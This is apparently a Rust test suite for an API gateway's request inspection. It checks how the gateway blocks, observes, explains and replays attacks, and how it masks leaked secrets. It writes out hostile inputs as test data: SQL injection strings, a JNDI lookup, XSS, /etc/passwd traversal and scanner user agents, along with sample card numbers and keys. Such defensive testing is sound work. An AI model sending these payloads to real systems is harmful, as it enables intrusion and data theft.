//! Inspection on the road: rules of a directory, what the caller and the operator learn, answers, recordings.
//! Start reading at `rules_of_a_directory_see_header_query_and_body`.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::thread;

use demo::{Call, CallResponse};
use serde_json::{Value, json};
use testkit::{Ended, Gate, Key, RecordingUpstream, Server, run};

use crate::{call, program, serve};

const NOTE: &str = r#"{"id":"1","title":"t","text":"fine"}"#;
const NOTES: &str = "apis/notes.yaml";
const SERVER: &str = "portcullis.yaml";
/// Rules about a header, the query and texts of a body.
const OWN: &str = r#"
SecRule REQUEST_HEADERS:User-Agent "@pm nikto sqlmap" "id:1001,phase:1,deny,status:403,t:lowercase,msg:'Scanner',tag:'attack-reputation-scanner',severity:'CRITICAL'"
SecRule ARGS_GET "@rx ^drop" "id:1002,phase:1,deny,status:403,msg:'Query',tag:'attack-sqli',severity:'CRITICAL'"
SecRule ARGS "@rx forbidden word" "id:1003,phase:2,deny,status:403,t:urlDecodeUni,msg:'Word',tag:'attack-sqli',severity:'CRITICAL'"
SecRule REQUEST_HEADERS|REQUEST_COOKIES "@rx pk_live|opensesame" "id:1004,phase:1,deny,status:403,msg:'Credential',severity:'CRITICAL'"
"#;

fn gate(upstream: &RecordingUpstream) -> Gate {
    Gate::small(upstream.address())
}

/// With further settings of inspection.
fn with(gate: Gate, inspection: &str) -> Gate {
    let text = gate.text(SERVER);
    gate.write(SERVER, format!("{text}{inspection}"));
    gate
}

fn own(upstream: &RecordingUpstream) -> Gate {
    let gate = with(gate(upstream), "inspection:\n  rules: [rules]\n");
    gate.write("rules/own.conf", OWN);
    gate
}

fn mode(gate: Gate, mode: &str) -> Gate {
    let checks = format!("base_path: /v1\n    checks: {{ inspect: {mode} }}");
    gate.edit(NOTES, "base_path: /v1", &checks);
    gate
}

fn post(text: &str) -> Call {
    call("POST", "/v1/notes").json(&json!({ "title": "t", "text": text }).to_string())
}

/// What the caller learned: code and the places with their fields.
fn told(response: &CallResponse) -> (String, Vec<String>) {
    let document: Value = serde_json::from_slice(&response.body).unwrap_or_default();
    let errors = document["errors"].as_array().cloned().unwrap_or_default();
    let place = |error: &Value| {
        format!(
            "{} {}",
            error["in"].as_str().unwrap_or_default(),
            error["pointer"].as_str().unwrap_or_default()
        )
    };
    (
        document["code"].as_str().unwrap_or_default().to_owned(),
        errors.iter().map(place).collect(),
    )
}

fn explained(server: &Server, response: &CallResponse) -> String {
    let ended = server.cli(&["explain", response.decision().unwrap()]);
    assert_eq!(ended.code, Some(0), "{ended:?}");
    // Long lines are wrapped.
    ended
        .stdout
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

fn refused(code: &str, place: &str) -> (String, Vec<String>) {
    (code.to_owned(), vec![place.to_owned()])
}

#[test]
fn rules_of_a_directory_see_header_query_and_body() {
    let upstream = RecordingUpstream::always(NOTE);
    let server = serve(own(&upstream));
    let key = server.key("alpha");
    let scanner = call("GET", "/v1/notes/1").with("User-Agent", "sqlmap/1.8");
    let query = call("GET", "/v1/notes?tag=drop%20it");
    let body = post("a forbidden%20word of secret plans");
    let cases = [
        (
            &scanner,
            refused("inspect.scanner", "header user-agent"),
            "1001",
        ),
        (&query, refused("inspect.sqli", "query tag/0"), "1002"),
        (&body, refused("inspect.sqli", "body /text"), "1003"),
    ];
    for (call, expected, rule) in cases {
        let response = server.send(call, Some(&key));
        assert_eq!(response.status, 403, "{}", response.text());
        assert_eq!(told(&response), expected);
        assert!(!response.text().contains(rule), "the caller learns no rule");
        let text = explained(&server, &response);
        assert!(
            text.contains(&format!("rule {rule}, score 5, paranoia 0, read ")),
            "{text}"
        );
        assert!(text.contains("Exclude"), "{text}");
        assert!(!text.contains("secret plans"), "{text}");
        // What inspection saw names no text; the user agent is a fact of the record, whether a rule sees it or not.
        assert_eq!(
            text.matches("sqlmap").count(),
            text.matches("agent sqlmap/1.8").count()
        );
    }
    upstream.assert_untouched("every call was an attack");
    let text = explained(&server, &server.send(&body, Some(&key)));
    assert!(text.contains("read through urldecodeuni"), "{text}");
    let plain = server.send(&post("O'Brien; select seats from the union"), Some(&key));
    assert!(plain.status < 300, "{}", plain.text());
    assert_eq!(
        server.event(plain.decision().unwrap()).get("findings"),
        None
    );
}

#[test]
fn fields_nobody_declared_are_inspected_without_any_setting() {
    let upstream = RecordingUpstream::always(NOTE);
    let server = serve(gate(&upstream));
    let key = server.key("alpha");
    let get = |name: &str, value: &str| {
        let asked = call("GET", "/v1/notes/1").with(name, value);
        server.send(&asked, Some(&key))
    };
    let lookup = get("User-Agent", "${jndi:ldap://a.example/x}");
    assert_eq!(lookup.status, 403, "{}", lookup.text());
    let (code, places) = told(&lookup);
    assert!(code.starts_with("inspect."), "{code}");
    assert!(
        places.iter().all(|place| place == "header user-agent"),
        "{places:?}"
    );
    let words = explained(&server, &lookup);
    assert!(words.contains("pack.jndi.lookup"), "{words}");
    let key_of_order = get("Idempotency-Key", "1' or '1'='1");
    assert_eq!(
        told(&key_of_order),
        refused("inspect.sqli", "header idempotency-key")
    );
    assert_eq!(upstream.requests().len(), 0);
    // What no standard knows is not written; the request goes on without it.
    for (name, value) in [
        ("Accept-Language", "en; drop table notes"),
        ("Prefer", "<script>alert(1)</script>"),
        ("Traceparent", "00-../../etc/passwd-b7ad6b7169203331-01"),
    ] {
        let response = get(name, value);
        assert_eq!(response.status, 200, "{name}: {}", response.text());
        let got = upstream.requests().pop().unwrap();
        assert_eq!(got.header(&name.to_lowercase()), None, "{name}");
    }
    // What is accepted is written by the gateway.
    get("Accept", "application/json, ${jndi:ldap://a.example/x}");
    let bytes = upstream.bytes();
    assert!(!bytes.windows(5).any(|window| window == b"jndi:"));
    for (name, value) in [
        ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
        ("Prefer", "return=minimal"),
        (
            "Traceparent",
            "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
        ),
        (
            "User-Agent",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ),
    ] {
        let response = get(name, value);
        assert_eq!(response.status, 200, "{name}: {}", response.text());
        let got = upstream.requests().pop().unwrap();
        assert_eq!(got.header(&name.to_lowercase()), Some(value), "{name}");
    }
}

#[test]
fn an_attack_in_pieces_of_one_parameter_is_refused() {
    let upstream = RecordingUpstream::always("[]");
    let server = serve(gate(&upstream));
    let key = server.key("alpha");
    let list = |query: &str| server.send(&call("GET", &format!("/v1/notes?{query}")), Some(&key));
    // Frameworks that join repeated parameters put a comma between them.
    let pieces = list("tag=1%20union%2F*&tag=*%2Fselect%201&tag=2%20from%20users");
    assert_eq!(pieces.status, 403, "{}", pieces.text());
    assert_eq!(told(&pieces), refused("inspect.sqli", "query tag"));
    assert_eq!(upstream.requests().len(), 0);
    let plain = list("tag=boiler&tag=pump&tag=select%20one");
    assert_eq!(plain.status, 200, "{}", plain.text());
}

#[test]
fn a_credential_is_never_shown_to_rules() {
    let upstream = RecordingUpstream::always(NOTE);
    for passed in ["", "      pass_credential: true\n"] {
        let gate = own(&upstream);
        let target = format!(
            "upstream: {{ targets: [\"http://{}\"], timeout: 5s }}",
            upstream.address()
        );
        let block = format!(
            "upstream:\n      targets: [\"http://{}\"]\n      timeout: 5s\n{passed}",
            upstream.address()
        );
        gate.edit(NOTES, &target, block.trim_end());
        let server = serve(gate);
        let key = server.key("alpha");
        let call = call("GET", "/v1/notes/1").with("Cookie", "session=opensesame");
        let response = server.send(&call, Some(&key));
        assert_eq!(response.status, 200, "{}", response.text());
        let elsewhere = call.with("X-Note", "opensesame");
        let response = server.send(&elsewhere, Some(&key));
        assert_eq!(response.status, 403, "the rule works: {}", response.text());
    }
}

#[test]
fn modes_observe_and_off_let_the_same_attack_through() {
    let upstream = RecordingUpstream::always(NOTE);
    let attack = || post("1' OR '1'='1' UNION SELECT password FROM users --");
    let server = serve(mode(gate(&upstream), "observe"));
    let key = server.key("alpha");
    let response = server.send(&attack(), Some(&key));
    assert!(response.status < 300, "{}", response.text());
    let event = server.event(response.decision().unwrap());
    let findings = event["findings"].as_array().unwrap();
    let first = &findings[0];
    assert_eq!(
        (&first["class"], &first["place"], &first["pointer"]),
        (&json!("inspect.sqli"), &json!("body"), &json!("/text"))
    );
    let text = explained(&server, &response);
    assert!(text.contains("would have been refused"), "{text}");
    assert!(!text.contains("UNION"), "{text}");

    let server = serve(mode(gate(&upstream), "off"));
    let key = server.key("alpha");
    let response = server.send(&attack(), Some(&key));
    assert!(response.status < 300, "{}", response.text());
    assert_eq!(
        server.event(response.decision().unwrap()).get("findings"),
        None
    );
}

#[test]
fn the_exclusion_that_explain_prints_is_pasted_holds_and_ends() {
    let upstream = RecordingUpstream::always(NOTE);
    let server = serve(own(&upstream));
    let key = server.key("alpha");
    let response = server.send(&post("a forbidden word"), Some(&key));
    assert_eq!(response.status, 403);
    let ended = server.cli(&["explain", response.decision().unwrap(), "-o", "json"]);
    let document: Value = serde_json::from_str(&ended.stdout).unwrap();
    let lines = document["decision"]["exclusion"].as_str().unwrap();
    let indented: String = lines.lines().map(|line| format!("    {line}\n")).collect();
    let settings = server.gate.text(SERVER);
    server
        .gate
        .write(SERVER, format!("{settings}  exclusions:\n{indented}"));
    server.admin("server.reload", &Value::Null);
    let response = server.send(&post("a forbidden word"), Some(&key));
    assert!(response.status < 300, "{}", response.text());
    let text = explained(&server, &response);
    assert!(text.contains("an exclusion silences it"), "{text}");
    // The same words elsewhere are still refused, and so are they here once the day has come.
    let title = call("POST", "/v1/notes").json(r#"{"title":"a forbidden word"}"#);
    assert_eq!(server.send(&title, Some(&key)).status, 403);
    let expires = lines
        .lines()
        .find(|line| line.contains("expires:"))
        .unwrap();
    server
        .gate
        .edit(SERVER, expires.trim(), "expires: 2026-01-01");
    server.admin("server.reload", &Value::Null);
    assert_eq!(
        server.send(&post("a forbidden word"), Some(&key)).status,
        403
    );
}

fn note(text: &str) -> Box<dyn Fn() -> RecordingUpstream> {
    let body = json!({ "id": "1", "title": "t", "text": text }).to_string();
    Box::new(move || {
        let body = body.clone();
        RecordingUpstream::start(move |_| {
            testkit::Play::Response(testkit::json_response(200, &body))
        })
    })
}

#[test]
fn what_must_not_leave_is_masked_or_held_back_and_recorded_without_its_text() {
    let read = || call("GET", "/v1/notes/1");
    let key_text = format!(
        "-----BEGIN {0} KEY-----\nMIIBVQIBADANBg\n-----END {0} KEY-----",
        "PRIVATE"
    );
    let cases = [
        (
            "paid with 4111 1111 1111 1111",
            200,
            "paid with ***************1111",
            "card_number",
        ),
        (
            "to DE89 3704 0044 0532 0130 00",
            200,
            "to ***********************0 00",
            "iban",
        ),
        (
            "use AKIAQ2W3E4R5T6Z7U2I3",
            200,
            "use ********************",
            "service_key",
        ),
        (
            "failed: ORA-00942: table or view",
            200,
            "***",
            "database_error",
        ),
        (key_text.as_str(), 502, "", "private_key"),
    ];
    for (text, status, expected, kind) in cases {
        let upstream = note(text)();
        let server = serve(gate(&upstream));
        let key = server.quick_key("alpha", &[]);
        let response = server.send(&read(), Some(&key));
        assert_eq!(response.status, status, "{}", response.text());
        match status {
            200 => {
                let sent: Value = serde_json::from_slice(&response.body).unwrap();
                assert_eq!(sent["text"], expected, "{text}");
            }
            _ => assert_eq!(response.code().as_deref(), Some("response.leak")),
        }
        let event = server.event(response.decision().unwrap());
        let first = &event["findings"][0];
        assert_eq!(
            (&first["class"], &first["place"], &first["rule"]),
            (&json!("response.leak"), &json!("answer"), &json!(kind)),
            "{first}"
        );
        let everything = format!("{event}{}", explained(&server, &response));
        assert!(!everything.contains(text), "{everything}");
        assert!(everything.contains("at answer /text"), "{everything}");
    }
}

#[test]
fn what_is_done_about_leaks_is_a_setting_and_a_fact_of_the_contract() {
    let upstream = note("paid with 4111 1111 1111 1111")();
    let read = || call("GET", "/v1/notes/1");
    let text = |server: &Server, key: &Key| {
        let response = server.send(&read(), Some(key));
        let sent: Value = serde_json::from_slice(&response.body).unwrap_or_default();
        (response.status, sent["text"].as_str().map(str::to_owned))
    };
    let whole = Some("paid with 4111 1111 1111 1111".to_owned());
    for (action, expected) in [
        ("observe", (200, whole.clone())),
        ("off", (200, whole.clone())),
        ("block", (502, None)),
    ] {
        let settings = format!("inspection:\n  answers: {{ card_number: {action} }}\n");
        let server = serve(with(gate(&upstream), &settings));
        let key = server.quick_key("alpha", &[]);
        assert_eq!(text(&server, &key), expected, "{action}");
    }
    // The contract says that such data belongs there, and the grant lets it out.
    let gate = gate(&upstream);
    gate.edit(
        "apis/notes.v1.openapi.yaml",
        "        text: { type: string }",
        "        text: { type: string, x-portcullis-class: sensitive }",
    );
    let server = serve(gate);
    let key = server.quick_key("alpha", &[]);
    assert_eq!(text(&server, &key), (200, whole));
}

/// The Core Rule Set in the gate's folder; `None` with a visible SKIP.
fn core_rules(gate: &Gate) -> Option<()> {
    let root = std::env::var_os("PORTCULLIS_CORPORA").map_or_else(
        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora"),
        PathBuf::from,
    );
    let corpus = root.join("crs");
    let Ok(entries) = fs::read_dir(corpus.join("rules")) else {
        println!("SKIP: no rule set at {}", corpus.display());
        return None;
    };
    for entry in entries.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.ends_with(".conf") || name.ends_with(".data") {
            gate.write(&format!("crs/{name}"), fs::read(entry.path()).unwrap());
        }
    }
    let setup = fs::read(corpus.join("crs-setup.conf.example")).unwrap();
    gate.write("crs/crs-setup.conf", setup);
    Some(())
}

#[test]
fn the_core_rule_set_judges_requests_on_the_road() {
    let upstream = RecordingUpstream::always(NOTE);
    let gate = with(gate(&upstream), "inspection:\n  rules: [crs, rules]\n");
    gate.write("rules/own.conf", OWN);
    if core_rules(&gate).is_none() {
        return;
    }
    let server = serve(gate);
    let key = server.key("alpha");
    // An ordinary client, an ordinary text: nothing is seen.
    let agent = |call: Call| {
        call.with("User-Agent", "ledgerbox/4.2")
            .with("Accept", "application/json")
    };
    let plain = server.send(
        &agent(post("Pump changed, runs again. Next visit in May.")),
        Some(&key),
    );
    assert!(
        plain.status < 300,
        "{} {}",
        plain.text(),
        explained(&server, &plain)
    );
    let listed = server.send(&agent(call("GET", "/v1/notes/1")), Some(&key));
    assert_eq!(
        listed.status,
        200,
        "{} {}",
        listed.text(),
        explained(&server, &listed)
    );
    let attacks = [
        (
            agent(post("1' UNION SELECT password FROM users-- -")),
            "inspect.sqli",
            "body /text",
            "942",
        ),
        (
            agent(call("GET", "/v1/notes/1"))
                .with("Referer", "https://x.example/?q=<script>alert(1)</script>"),
            "inspect.xss",
            "header referer",
            "941",
        ),
        (
            call("GET", "/v1/notes/1").with("User-Agent", "Mozilla/5.0 sqlmap/1.8"),
            "inspect.scanner",
            "header user-agent",
            "913",
        ),
        (
            agent(call("GET", "/v1/notes?tag=..%2F..%2Fetc%2Fpasswd")),
            "inspect.traversal",
            "query tag/0",
            "930",
        ),
    ];
    for (call, code, place, family) in attacks {
        let response = server.send(&call, Some(&key));
        let (told, places) = told(&response);
        let text = explained(&server, &response);
        assert_eq!((response.status, told.as_str()), (403, code), "{text}");
        assert!(places.iter().any(|one| one == place), "{places:?} {text}");
        assert!(text.contains(&format!("rule {family}")), "{text}");
    }
}

fn replayed(gate: &Gate, arguments: &[&str]) -> (Option<i32>, Value) {
    let mut all = vec!["inspect", "replay", "-o", "json"];
    all.extend_from_slice(arguments);
    let Ended {
        code,
        stdout,
        stderr,
    } = run(program(), gate, &all);
    let document =
        serde_json::from_str(&stdout).unwrap_or_else(|_| panic!("{code:?} {stdout} {stderr}"));
    (code, document)
}

/// A copy of the configuration in a directory beside it, with these settings at its end.
fn changed(gate: &Gate, settings: &str) -> String {
    let to = gate.home().join("changed");
    for path in [
        SERVER,
        NOTES,
        "apis/notes.v1.openapi.yaml",
        "integrations/alpha.yaml",
        "integrations/beta.yaml",
    ] {
        let place = to.join(path);
        fs::create_dir_all(place.parent().unwrap()).unwrap();
        fs::write(place, gate.text(path)).unwrap();
    }
    fs::create_dir_all(to.join("rules")).unwrap();
    fs::write(to.join("rules/own.conf"), OWN).unwrap();
    let server = to.join(SERVER);
    let text = fs::read_to_string(&server).unwrap();
    fs::write(server, format!("{text}{settings}")).unwrap();
    to.to_string_lossy().into_owned()
}

#[test]
// LONG: one table of an operator's day, asked step by step on one server.
fn recorded_requests_show_what_a_changed_configuration_would_decide() {
    let upstream = RecordingUpstream::always(NOTE);
    let server = serve(gate(&upstream));
    let key = server.key("alpha");
    let file = server.gate.home().join("monday.rec");
    let path = file.to_str().unwrap();
    let recorded = thread::scope(|scope| {
        let recorder =
            scope.spawn(|| server.cli(&["inspect", "record", path, "--for", "60s", "--max", "4"]));
        // The heading is written once the recording runs; its record in the ledger comes before that.
        let begun = testkit::poll(testkit::PATIENCE, || {
            fs::metadata(&file)
                .is_ok_and(|file| file.len() > 0)
                .then_some(())
        });
        assert!(begun.is_some());
        let records = server.ledger_of(&json!({ "kind": "inspection.record" }));
        assert_eq!(records.len(), 1);
        // A key of another system in a field of its own: it is not ours to keep.
        let calls = [
            post("a forbidden word in private").with("X-Other-Token", "opensesame"),
            post("1' UNION SELECT password FROM users --"),
            call("GET", "/v1/notes/1").with("User-Agent", "sqlmap/1.8"),
            post("an ordinary note"),
        ];
        for call in &calls {
            server.send(call, Some(&key));
        }
        recorder.join().unwrap()
    });
    assert_eq!(recorded.code, Some(0), "{recorded:?}");
    assert!(
        recorded.stdout.starts_with("4 requests recorded"),
        "{recorded:?}"
    );
    assert_eq!(
        server
            .ledger_of(&json!({ "kind": "inspection.recorded" }))
            .len(),
        1
    );
    let text = fs::read_to_string(&file).unwrap();
    assert!(
        !text.contains("private") && !text.contains("sqlmap"),
        "{text}"
    );
    assert_eq!(
        fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let again = server.cli(&["inspect", "record", path, "--for", "1s"]);
    assert_eq!(
        again.code,
        Some(1),
        "a file is never overwritten: {again:?}"
    );

    let own = server.gate.dir();
    let own = own.to_str().unwrap();
    // Nothing changed, nothing to say. The server runs on meanwhile.
    let (code, document) = replayed(&server.gate, &[path]);
    assert_eq!(
        (code, &document["requests"]),
        (Some(0), &json!(4)),
        "{document}"
    );
    let changed = changed(&server.gate, "inspection:\n  rules: [rules]\n");
    let (code, document) = replayed(
        &server.gate,
        &[path, "--config", &changed, "--installation", own],
    );
    assert_eq!(code, Some(2), "{document}");
    assert_eq!(
        (&document["now_refused"], &document["now_let_through"]),
        (&json!(2), &json!(0)),
        "{document}"
    );
    let rules: Vec<(&str, &str)> = document["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|change| {
            (
                change["field"].as_str().unwrap(),
                change["rule"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        rules,
        [("body /text", "1003"), ("header user-agent", "1001")],
        "{document}"
    );
    let text = run(
        program(),
        &server.gate,
        &[
            "inspect",
            "replay",
            path,
            "--config",
            &changed,
            "--installation",
            own,
        ],
    );
    assert!(
        text.stdout
            .contains("4 requests judged: 2 now refused, 0 now let through, 0 not judged"),
        "{text:?}"
    );

    // Off lets the injection through; and another installation cannot read what this one recorded.
    fs::write(
        Path::new(&changed).join(NOTES),
        server.gate.text(NOTES).replace(
            "base_path: /v1",
            "base_path: /v1\n    checks: { inspect: off }",
        ),
    )
    .unwrap();
    let (code, document) = replayed(
        &server.gate,
        &[path, "--config", &changed, "--installation", own],
    );
    assert_eq!(
        (code, &document["now_let_through"]),
        (Some(2), &json!(1)),
        "{document}"
    );
    let other = serve(gate(&upstream));
    let foreign = other.cli(&["inspect", "replay", path]);
    assert_eq!(foreign.code, Some(1), "{foreign:?}");
    assert!(
        foreign.stderr.contains("another installation"),
        "{foreign:?}"
    );
}

#[test]
fn written_requests_are_compared_by_contract_and_inspection() {
    let upstream = RecordingUpstream::always(NOTE);
    let gate = gate(&upstream);
    let lines = [
        json!({ "method": "GET", "path": "/v1/notes/1" }),
        json!({ "method": "POST", "path": "/v1/notes", "body": { "title": "a forbidden word" } }),
        json!({ "method": "POST", "path": "/v1/notes", "body": { "title": 7 } }),
        json!({ "method": "GET", "path": "/v1/nowhere" }),
    ];
    let file = gate.home().join("requests.jsonl");
    fs::write(&file, lines.map(|line| line.to_string()).join("\n")).unwrap();
    let path = file.to_str().unwrap();
    let changed = changed(&gate, "inspection:\n  rules: [rules]\n");
    let own = gate.dir();
    let (code, document) = replayed(
        &gate,
        &[
            path,
            "--config",
            &changed,
            "--installation",
            own.to_str().unwrap(),
        ],
    );
    assert_eq!(code, Some(2), "{document}");
    let counted = ["requests", "now_refused", "now_let_through", "not_judged"]
        .map(|name| document[name].as_u64().unwrap());
    assert_eq!(counted, [4, 1, 0, 1], "{document}");
    assert_eq!(document["changes"][0]["rule"], "1003");
    assert_eq!(document["changes"][0]["first"], "line 2");
    fs::write(&file, "not json").unwrap();
    let ended = run(program(), &gate, &["inspect", "replay", path]);
    assert_eq!(ended.code, Some(1), "{ended:?}");
}
